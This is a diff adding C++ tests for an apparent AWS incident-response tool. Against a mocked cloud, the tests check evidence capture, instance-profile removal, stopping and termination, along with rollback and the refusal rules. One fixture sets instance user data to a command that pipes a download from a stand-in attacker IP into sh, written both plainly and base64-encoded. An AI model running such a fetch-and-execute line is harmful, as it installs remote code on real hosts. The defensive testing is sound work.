@@ -15,9 +15,11 @@
 #include "aws/aws_client.h"
 #include "aws/curl_transport.h"
 #include "aws/services.h"
+#include "aws/sigv4_signer.h"
 #include "core/clock.h"
 #include "core/time.h"
 #include "../common/moto_server.h"
+#include "respond/decisions.h"
 #include "respond/responder.h"
 #include "store/incident_store.h"
 
@@ -1758,6 +1760,389 @@ TEST_F(RespondMotoTest, RevokeOpenIngressClosesWorldRangesKeepsTheRestAndReopens
                 .error()
                 .code,
             ErrorCode::kNotFound);
+}
+
+// -------------------------------------------------------------------- capture-instance-evidence
+// The error code of a failed result; nullopt when it succeeded.
+template <class T>
+std::optional<ErrorCode> CodeOf(const Result<T>& r) {
+  return r ? std::nullopt : std::optional(r.error().code);
+}
+
+TEST_F(RespondMotoTest, CaptureInstanceEvidenceKeepsConsoleUserDataAndConfiguration) {
+  const std::string trust = R"({"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]})";
+  ASSERT_TRUE(aws_->Query("iam", "CreateRole", {{"RoleName", "evidence-role"}, {"AssumeRolePolicyDocument", trust}}));
+  ASSERT_TRUE(aws_->Query("iam", "CreateInstanceProfile", {{"InstanceProfileName", "evidence-profile"}}));
+  ASSERT_TRUE(aws_->Query("iam", "AddRoleToInstanceProfile",
+                          {{"InstanceProfileName", "evidence-profile"}, {"RoleName", "evidence-role"}}));
+  // #!/bin/sh\ncurl http://198.51.100.7/x | sh\n
+  const std::string user_data = "IyEvYmluL3NoCmN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gK";
+  std::string instance = moto_->Boto3(
+      "r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1, UserData="
+      "'#!/bin/sh\\ncurl http://198.51.100.7/x | sh\\n', IamInstanceProfile={'Name': 'evidence-profile'},"
+      " TagSpecifications=[{'ResourceType': 'instance', 'Tags': [{'Key': 'Name', 'Value': 'web-1'}]}])\n"
+      "print(r['Instances'][0]['InstanceId'])");
+  ASSERT_TRUE(instance.starts_with("i-")) << instance;
+  auto described = aws::ec2::DescribeInstances(*aws_, {instance});
+  ASSERT_TRUE(described && described->size() == 1);
+  const std::string eni = (*described)[0].network_interface_ids.at(0);
+  auto web = aws::ec2::CreateSecurityGroup(*aws_, (*described)[0].vpc_id, "evidence-web", "web");
+  ASSERT_TRUE(web);
+  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').authorize_security_group_ingress(GroupId='" + *web +
+                         "', IpPermissions=[{'IpProtocol': 'tcp', 'FromPort': 22, 'ToPort': 22, 'IpRanges': "
+                         "[{'CidrIp': '0.0.0.0/0'}]}])\nprint('ok')"),
+            "ok");
+  ASSERT_TRUE(aws::ec2::ModifyNetworkInterfaceSecurityGroups(*aws_, eni, {*web}));
+  auto evidence_tag = [&] {
+    return moto_->Boto3("print([t['Value'] for t in boto3.client('ec2').describe_tags(Filters=[{'Name': 'resource-id',"
+                        " 'Values': ['" + instance + "']}, {'Name': 'key', 'Values': ['cloudward:evidence']}])['Tags']])");
+  };
+  // What AWS has, read separately: the SHA-256 of the console output (botocore decodes it).
+  const std::string console_sha = moto_->Boto3(
+      "import hashlib\n"
+      "o = boto3.client('ec2').get_console_output(InstanceId='" + instance + "')['Output']\n"
+      "print(hashlib.sha256(o.encode()).hexdigest())");
+  ASSERT_EQ(console_sha.size(), 64u) << console_sha;
+  const ActionRequest request{.target = instance, .incident_id = kIncident};
+
+  // Plan: the configuration is read now (prior state); the console output and user data are the
+  // calls; nothing is read from the console or tagged yet, nothing is stored.
+  size_t mark = recorder_->Mark();
+  auto plan = responder_->PlanAction("capture-instance-evidence", request);
+  ASSERT_TRUE(plan) << plan.error().message;
+  EXPECT_FALSE(Contains(OperationsSince(mark), "GetConsoleOutput"));
+  EXPECT_FALSE(Contains(OperationsSince(mark), "CreateTags"));
+  ASSERT_EQ(plan->calls.size(), 3u);
+  EXPECT_EQ(plan->calls[0].operation, "ec2:GetConsoleOutput");
+  EXPECT_EQ(plan->calls[0].parameters, (json{{"InstanceId", instance}, {"Latest", true}}));
+  EXPECT_EQ(plan->calls[1].parameters, (json{{"InstanceId", instance}, {"Attribute", "userData"}}));
+  EXPECT_EQ(plan->calls[2].operation, "ec2:CreateTags");
+  EXPECT_EQ(plan->calls[2].parameters["Tags"], (json{{"cloudward:evidence", kIncident}}));
+  const json& prior = plan->prior_state;
+  EXPECT_EQ(prior["state"], "running");
+  EXPECT_EQ(prior["tags"]["Name"], "web-1");
+  EXPECT_EQ(prior["attributes"]["disableApiTermination"], "false");
+  EXPECT_EQ(prior["attributes"]["instanceInitiatedShutdownBehavior"], "stop");
+  ASSERT_EQ(prior["instance_profile_associations"].size(), 1u) << prior.dump(2);
+  EXPECT_NE(prior["instance_profile_associations"][0]["arn"].get<std::string>().find("evidence-profile"),
+            std::string::npos);
+  ASSERT_EQ(prior["network_interfaces"].size(), 1u);
+  EXPECT_EQ(prior["network_interfaces"][0]["groups"], json::array({*web}));
+  bool has_rule = false;
+  for (const auto& g : prior["security_groups"]) {
+    if (g["id"] != *web) continue;
+    for (const auto& p : g["ingress"]) has_rule |= p["from_port"] == 22 && p["cidrs"] == json::array({"0.0.0.0/0"});
+  }
+  EXPECT_TRUE(has_rule) << prior["security_groups"].dump(2);
+  EXPECT_EQ(evidence_tag(), "[]");
+  EXPECT_TRUE(Actions().empty());
+
+  // Apply: the evidence is the calls' output, kept with the action and in the journal.
+  auto applied = responder_->Apply("capture-instance-evidence", request);
+  ASSERT_TRUE(applied) << applied.error().message;
+  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
+  EXPECT_EQ(evidence_tag(), "['" + std::string(kIncident) + "']");
+  auto row = store_->GetAction(applied->action.id);
+  ASSERT_TRUE(row);
+  EXPECT_EQ(row->status, "applied");
+  EXPECT_EQ(row->request_ids.size(), 3u);
+  EXPECT_EQ(json::parse(row->prior_state)["tags"]["Name"], "web-1");
+  json result = json::parse(row->plan)["result"];
+  json console = json::parse(result["calls"][0]["result"].get<std::string>());
+  EXPECT_EQ(console["instance_id"], instance);
+  EXPECT_EQ(console["sha256"], console_sha);
+  EXPECT_GT(console["bytes"].get<size_t>(), 0u);
+  EXPECT_EQ(console["kept_bytes"], console["bytes"]);
+  EXPECT_EQ(console["truncated"], false);
+  EXPECT_NE(console["text"].get<std::string>().find("Linux version"), std::string::npos);
+  json user = json::parse(result["calls"][1]["result"].get<std::string>());
+  EXPECT_EQ(user["text"], "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n");
+  EXPECT_EQ(user["sha256"], aws::Sha256Hex(*DecodeBase64(user_data)));
+  auto journal = ActionJournal();
+  ASSERT_EQ(journal.size(), 1u);
+  EXPECT_EQ(journal[0]["outcome"], "applied");
+  EXPECT_EQ(json::parse(journal[0]["calls"][0]["result"].get<std::string>())["sha256"], console_sha);
+  EXPECT_EQ(journal[0]["request_ids"].size(), 3u);
+
+  // Apply again for the same incident: a no-op that reads nothing; recapture=true reads again.
+  mark = recorder_->Mark();
+  auto again = responder_->Apply("capture-instance-evidence", request);
+  ASSERT_TRUE(again) << again.error().message;
+  EXPECT_TRUE(again->no_op);
+  EXPECT_FALSE(Contains(OperationsSince(mark), "GetConsoleOutput"));
+  ActionRequest recapture = request;
+  recapture.options["recapture"] = "true";
+  auto recaptured = responder_->Apply("capture-instance-evidence", recapture);
+  ASSERT_TRUE(recaptured && recaptured->execution.ok());
+  EXPECT_EQ(recaptured->plan.calls.size(), 3u);
+  recapture.options["recapture"] = "yes";
+  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", recapture)), ErrorCode::kInvalidArgument);
+
+  // Rollback: nothing to undo; the evidence and the tag stay.
+  auto rolled = responder_->Rollback(applied->action.id);
+  ASSERT_TRUE(rolled) << rolled.error().message;
+  EXPECT_FALSE(rolled->rolled_back);
+  EXPECT_FALSE(rolled->plan.reversible);
+  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
+  EXPECT_EQ(evidence_tag(), "['" + std::string(kIncident) + "']");
+
+  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", {.target = instance})),
+            ErrorCode::kInvalidArgument);  // no incident
+  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence", {.target = "i-zz", .incident_id = kIncident})),
+            ErrorCode::kInvalidArgument);
+  EXPECT_EQ(CodeOf(responder_->PlanAction("capture-instance-evidence",
+                                          {.target = "i-0123456789abcdef0", .incident_id = kIncident})),
+            ErrorCode::kNotFound);
+}
+
+// --------------------------------------------------------------------- replace-instance-profile
+TEST_F(RespondMotoTest, ReplaceInstanceProfileRemovesOrQuarantinesAndGivesItBack) {
+  ASSERT_EQ(moto_->Boto3(
+                "iam = boto3.client('iam')\n"
+                "trust = '{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":"
+                "\"ec2.amazonaws.com\"},\"Action\":\"sts:AssumeRole\"}]}'\n"
+                "for role, profile in (('app-role', 'app-profile'), ('quarantine-role', 'quarantine-profile'),"
+                " ('admin-role', 'admin-profile')):\n"
+                "  iam.create_role(RoleName=role, AssumeRolePolicyDocument=trust)\n"
+                "  iam.create_instance_profile(InstanceProfileName=profile)\n"
+                "  iam.add_role_to_instance_profile(InstanceProfileName=profile, RoleName=role)\n"
+                "print('ok')"),
+            "ok");
+  auto run = [&] {
+    return moto_->Boto3("r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1,"
+                        " IamInstanceProfile={'Name': 'app-profile'})\nprint(r['Instances'][0]['InstanceId'])");
+  };
+  const std::string instance = run(), neighbour = run();
+  ASSERT_TRUE(instance.starts_with("i-") && neighbour.starts_with("i-")) << instance << neighbour;
+  // A separate read: the profile name the instance is associated with now, or "none".
+  auto profile_of = [&](const std::string& id) {
+    return moto_->Boto3("a = [x for x in boto3.client('ec2').describe_iam_instance_profile_associations(Filters=["
+                        "{'Name': 'instance-id', 'Values': ['" + id + "']}])['IamInstanceProfileAssociations']"
+                        " if x['State'] in ('associated', 'associating')]\n"
+                        "print(a[0]['IamInstanceProfile']['Arn'].split('/')[-1] if a else 'none')");
+  };
+  ASSERT_EQ(profile_of(instance), "app-profile");
+  const ActionRequest request{.target = instance, .incident_id = kIncident};
+
+  // Plan: one disassociation; the neighbour is named as collateral, with the role's sessions.
+  size_t mark = recorder_->Mark();
+  auto plan = responder_->PlanAction("replace-instance-profile", request);
+  ASSERT_TRUE(plan) << plan.error().message;
+  EXPECT_FALSE(Contains(OperationsSince(mark), "DisassociateIamInstanceProfile"));
+  ASSERT_EQ(plan->calls.size(), 1u);
+  EXPECT_EQ(plan->calls[0].operation, "ec2:DisassociateIamInstanceProfile");
+  EXPECT_EQ(plan->calls[0].parameters["AssociationId"], plan->prior_state["association_id"]);
+  EXPECT_TRUE(plan->prior_state["instance_profile_arn"].get<std::string>().ends_with("/app-profile"));
+  EXPECT_EQ(plan->prior_state["role_names"], json::array({"app-role"}));
+  bool collateral = std::any_of(plan->notes.begin(), plan->notes.end(), [&](const std::string& n) {
+    return n.find(neighbour + " (running)") != std::string::npos && n.find("sessions") != std::string::npos &&
+           n.find("does not touch them") != std::string::npos;
+  });
+  EXPECT_TRUE(collateral) << plan->ToJson().dump(2);
+  EXPECT_EQ(profile_of(instance), "app-profile");
+  EXPECT_TRUE(Actions().empty());
+
+  // Apply: the profile is gone from the instance only.
+  auto applied = responder_->Apply("replace-instance-profile", request);
+  ASSERT_TRUE(applied) << applied.error().message;
+  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
+  EXPECT_EQ(profile_of(instance), "none");
+  EXPECT_EQ(profile_of(neighbour), "app-profile");
+  mark = recorder_->Mark();
+  auto again = responder_->Apply("replace-instance-profile", request);
+  ASSERT_TRUE(again) << again.error().message;
+  EXPECT_TRUE(again->no_op);
+  EXPECT_FALSE(Contains(OperationsSince(mark), "DisassociateIamInstanceProfile"));
+
+  // Rollback: associated again with the same profile.
+  auto rollback_plan = responder_->PlanRollback(applied->action.id);
+  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
+  ASSERT_EQ(rollback_plan->calls.size(), 1u);
+  EXPECT_EQ(rollback_plan->calls[0].operation, "ec2:AssociateIamInstanceProfile");
+  EXPECT_EQ(profile_of(instance), "none");
+  auto rolled = responder_->Rollback(applied->action.id);
+  ASSERT_TRUE(rolled) << rolled.error().message;
+  EXPECT_TRUE(rolled->rolled_back);
+  EXPECT_EQ(profile_of(instance), "app-profile");
+
+  // With a quarantine profile: replaced, then replaced back.
+  ActionRequest quarantine = request;
+  quarantine.options["quarantine_profile"] = "quarantine-profile";
+  auto replaced = responder_->Apply("replace-instance-profile", quarantine);
+  ASSERT_TRUE(replaced) << replaced.error().message;
+  ASSERT_TRUE(replaced->execution.ok()) << replaced->execution.error->message;
+  ASSERT_EQ(replaced->plan.calls.size(), 1u);
+  EXPECT_EQ(replaced->plan.calls[0].operation, "ec2:ReplaceIamInstanceProfileAssociation");
+  EXPECT_EQ(profile_of(instance), "quarantine-profile");
+  auto replaced_again = responder_->Apply("replace-instance-profile", quarantine);
+  ASSERT_TRUE(replaced_again) << replaced_again.error().message;
+  EXPECT_TRUE(replaced_again->no_op);
+  auto unquarantined = responder_->Rollback(replaced->action.id);
+  ASSERT_TRUE(unquarantined) << unquarantined.error().message;
+  ASSERT_EQ(unquarantined->plan.calls.size(), 1u);
+  EXPECT_EQ(unquarantined->plan.calls[0].operation, "ec2:ReplaceIamInstanceProfileAssociation");
+  EXPECT_EQ(profile_of(instance), "app-profile");
+
+  // Changed since (another profile): rollback refused and journaled, nothing changed.
+  auto removed = responder_->Apply("replace-instance-profile", request);
+  ASSERT_TRUE(removed && removed->execution.ok());
+  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').associate_iam_instance_profile(InstanceId='" + instance +
+                         "', IamInstanceProfile={'Name': 'admin-profile'})\nprint('ok')"),
+            "ok");
+  auto refused = responder_->Rollback(removed->action.id);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().code, ErrorCode::kConflict) << refused.error().message;
+  EXPECT_NE(refused.error().message.find("admin-profile"), std::string::npos) << refused.error().message;
+  EXPECT_EQ(profile_of(instance), "admin-profile");
+  EXPECT_EQ(ActionJournal().back()["outcome"], "refused");
+
+  quarantine.options["quarantine_profile"] = "no-such-profile";
+  EXPECT_EQ(CodeOf(responder_->PlanAction("replace-instance-profile", quarantine)), ErrorCode::kInvalidArgument);
+  auto bare = moto_->Boto3("r = boto3.client('ec2').run_instances(ImageId='ami-12c6146b', MinCount=1, MaxCount=1)\n"
+                           "print(r['Instances'][0]['InstanceId'])");
+  auto none = responder_->PlanAction("replace-instance-profile", {.target = bare, .incident_id = kIncident});
+  ASSERT_TRUE(none) << none.error().message;
+  EXPECT_TRUE(none->no_op());
+}
+
+// -------------------------------------------------------------------------------- stop-instance
+TEST_F(RespondMotoTest, StopInstanceOnlyAfterEvidenceAndStartsItOnRollback) {
+  const std::string instance = RunInstance(*aws_);
+  ASSERT_FALSE(instance.empty());
+  auto state = [&] {
+    return moto_->Boto3("print(boto3.client('ec2').describe_instances(InstanceIds=['" + instance +
+                        "'])['Reservations'][0]['Instances'][0]['State']['Name'])");
+  };
+  const ActionRequest request{.target = instance, .incident_id = kIncident};
+
+  // No evidence snapshot yet: refused, naming the volume.
+  auto refused = responder_->PlanAction("stop-instance", request);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
+  EXPECT_NE(refused.error().message.find("snapshot-instance-volumes"), std::string::npos) << refused.error().message;
+  auto not_applied = responder_->Apply("stop-instance", request);
+  ASSERT_FALSE(not_applied);
+  EXPECT_TRUE(Actions().empty());
+  EXPECT_EQ(state(), "running");
+
+  auto snapshots = responder_->Apply("snapshot-instance-volumes", request);
+  ASSERT_TRUE(snapshots && snapshots->execution.ok());
+  size_t mark = recorder_->Mark();
+  auto plan = responder_->PlanAction("stop-instance", request);
+  ASSERT_TRUE(plan) << plan.error().message;
+  EXPECT_FALSE(Contains(OperationsSince(mark), "StopInstances"));
+  ASSERT_EQ(plan->calls.size(), 1u);
+  EXPECT_EQ(plan->calls[0].operation, "ec2:StopInstances");
+  EXPECT_EQ(plan->calls[0].parameters, (json{{"InstanceIds", json::array({instance})}}));
+  EXPECT_EQ(plan->prior_state["state"], "running");
+  EXPECT_FALSE(plan->prior_state["evidence_snapshots"].empty());
+  bool memory = std::any_of(plan->notes.begin(), plan->notes.end(),
+                            [](const std::string& n) { return n.find("memory is lost") != std::string::npos; });
+  EXPECT_TRUE(memory) << plan->ToJson().dump(2);
+  EXPECT_EQ(state(), "running");
+
+  auto applied = responder_->Apply("stop-instance", request);
+  ASSERT_TRUE(applied) << applied.error().message;
+  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
+  EXPECT_EQ(state(), "stopped");
+  mark = recorder_->Mark();
+  auto again = responder_->Apply("stop-instance", request);
+  ASSERT_TRUE(again) << again.error().message;
+  EXPECT_TRUE(again->no_op);
+  EXPECT_FALSE(Contains(OperationsSince(mark), "StopInstances"));
+
+  auto rollback_plan = responder_->PlanRollback(applied->action.id);
+  ASSERT_TRUE(rollback_plan) << rollback_plan.error().message;
+  ASSERT_EQ(rollback_plan->calls.size(), 1u);
+  EXPECT_EQ(rollback_plan->calls[0].operation, "ec2:StartInstances");
+  EXPECT_EQ(state(), "stopped");
+  auto rolled = responder_->Rollback(applied->action.id);
+  ASSERT_TRUE(rolled) << rolled.error().message;
+  EXPECT_TRUE(rolled->rolled_back);
+  EXPECT_EQ(state(), "running");
+  auto journal = ActionJournal();
+  ASSERT_EQ(journal.size(), 4u);  // snapshot, stop, no-op, rollback
+  EXPECT_EQ(journal[1]["outcome"], "applied");
+  EXPECT_EQ(journal[2]["outcome"], "no_op");
+  EXPECT_EQ(journal[3]["outcome"], "rolled_back");
+
+  // Terminated since: rollback refused.
+  auto second = responder_->Apply("stop-instance", request);
+  ASSERT_TRUE(second && second->execution.ok());
+  ASSERT_EQ(moto_->Boto3("boto3.client('ec2').terminate_instances(InstanceIds=['" + instance + "'])\nprint('ok')"), "ok");
+  auto gone = responder_->Rollback(second->action.id);
+  ASSERT_FALSE(gone);
+  EXPECT_EQ(gone.error().code, ErrorCode::kConflict) << gone.error().message;
+  EXPECT_EQ(CodeOf(responder_->PlanAction("stop-instance", {.target = instance})), ErrorCode::kInvalidArgument);
+}
+
+// --------------------------------------------------------------------------- terminate-instance
+TEST_F(RespondMotoTest, TerminateInstanceOnlyWhenConfirmedUnprotectedAndWithEvidence) {
+  const std::string instance = RunInstance(*aws_);
+  ASSERT_FALSE(instance.empty());
+  auto state = [&] {
+    return moto_->Boto3("print(boto3.client('ec2').describe_instances(InstanceIds=['" + instance +
+                        "'])['Reservations'][0]['Instances'][0]['State']['Name'])");
+  };
+  const ActionRequest unconfirmed{.target = instance, .incident_id = kIncident};
+  ActionRequest confirmed = unconfirmed;
+  confirmed.options["confirm"] = "true";
+
+  // Without evidence and without confirm=true: refused for both reasons at once.
+  auto refused = responder_->PlanAction("terminate-instance", unconfirmed);
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
+  EXPECT_NE(refused.error().message.find("snapshot-instance-volumes"), std::string::npos) << refused.error().message;
+  EXPECT_NE(refused.error().message.find("confirm=true"), std::string::npos) << refused.error().message;
+  ASSERT_TRUE(responder_->Apply("snapshot-instance-volumes", unconfirmed));
+  auto unconfirmed_apply = responder_->Apply("terminate-instance", unconfirmed);
+  ASSERT_FALSE(unconfirmed_apply);
+  EXPECT_EQ(unconfirmed_apply.error().code, ErrorCode::kInvalidArgument);
+  EXPECT_EQ(state(), "running");
+
+  // Termination protection on: refused, and left on.
+  auto protect = responder_->Apply("protect-instance", unconfirmed);
+  ASSERT_TRUE(protect && protect->execution.ok());
+  size_t mark = recorder_->Mark();
+  auto protected_plan = responder_->Apply("terminate-instance", confirmed);
+  ASSERT_FALSE(protected_plan);
+  EXPECT_EQ(protected_plan.error().code, ErrorCode::kConflict);
+  EXPECT_NE(protected_plan.error().message.find("termination protection is on"), std::string::npos);
+  EXPECT_FALSE(Contains(OperationsSince(mark), "ModifyInstanceAttribute"));
+  EXPECT_FALSE(Contains(OperationsSince(mark), "TerminateInstances"));
+  EXPECT_EQ(moto_->Boto3("print(boto3.client('ec2').describe_instance_attribute(InstanceId='" + instance +
+                         "', Attribute='disableApiTermination')['DisableApiTermination']['Value'])"),
+            "True");
+  ASSERT_TRUE(responder_->Rollback(protect->action.id));
+
+  // Confirmed, unprotected, with evidence: the plan says loudly that there is no way back.
+  mark = recorder_->Mark();
+  auto plan = responder_->PlanAction("terminate-instance", confirmed);
+  ASSERT_TRUE(plan) << plan.error().message;
+  EXPECT_FALSE(Contains(OperationsSince(mark), "TerminateInstances"));
+  ASSERT_EQ(plan->calls.size(), 1u);
+  EXPECT_EQ(plan->calls[0].operation, "ec2:TerminateInstances");
+  EXPECT_NE(plan->summary.find("NO rollback"), std::string::npos) << plan->summary;
+  EXPECT_NE(plan->notes.at(0).find("NO ROLLBACK"), std::string::npos);
+  EXPECT_EQ(state(), "running");
+
+  auto applied = responder_->Apply("terminate-instance", confirmed);
+  ASSERT_TRUE(applied) << applied.error().message;
+  ASSERT_TRUE(applied->execution.ok()) << applied->execution.error->message;
+  EXPECT_EQ(state(), "terminated");
+  auto again = responder_->Apply("terminate-instance", confirmed);
+  ASSERT_TRUE(again) << again.error().message;
+  EXPECT_TRUE(again->no_op);
+
+  mark = recorder_->Mark();
+  auto rolled = responder_->Rollback(applied->action.id);
+  ASSERT_TRUE(rolled) << rolled.error().message;
+  EXPECT_FALSE(rolled->rolled_back);
+  EXPECT_FALSE(rolled->plan.reversible);
+  EXPECT_NE(rolled->plan.summary.find("nothing can undo"), std::string::npos);
+  EXPECT_TRUE(OperationsSince(mark).empty() || !Contains(OperationsSince(mark), "StartInstances"));
+  EXPECT_EQ(store_->GetAction(applied->action.id)->status, "applied");
+  EXPECT_EQ(ActionJournal().back()["outcome"], "nothing_to_undo");
 }
 
 }  // namespace
